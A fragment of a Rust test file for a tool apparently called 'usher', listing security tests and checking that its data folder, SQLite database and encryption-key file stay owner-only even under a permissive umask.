    control_characters_are_refused_with_a_400_that_names_the_field,
    audit_filters_match_percent_and_underscore_as_typed,
    every_answer_carries_the_security_headers,
    a_state_changing_request_from_another_origin_is_refused,
    sign_in_never_redirects_away_from_usher,
    addresses_that_are_not_valid_email_addresses_are_refused,
);

/// Whatever the umask, the data folder and the SQLite files are the
/// owner's only.
#[test]
fn the_sqlite_files_are_readable_by_their_owner_only() -> TestResult {
    use std::os::unix::fs::PermissionsExt as _;
    let home = tempfile::tempdir()?;
    let status = std::process::Command::new("sh")
        .arg("-c")
        .arg("umask 000 && exec \"$0\" user-management:reset --yes")
        .arg(env!("CARGO_BIN_EXE_usher"))
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("N8N_USER_FOLDER", home.path())
        .stdout(std::process::Stdio::null())
        .status()?;
    assert!(status.success());
    let folder = home.path().join(".usher");
    let mode = |name: &str| -> u32 {
        std::fs::metadata(folder.join(name))
            .map(|m| m.permissions().mode() & 0o777)
            .unwrap_or_else(|e| panic!("{name}: {e}"))
    };
    assert_eq!(mode(""), 0o700);
    assert_eq!(mode("database.sqlite"), 0o600);
    assert_eq!(mode("encryption-key"), 0o600);
    for companion in ["database.sqlite-wal", "database.sqlite-shm"] {
        if folder.join(companion).exists() {
            assert_eq!(mode(companion), 0o600, "{companion}");
        }
    }
    Ok(())
}
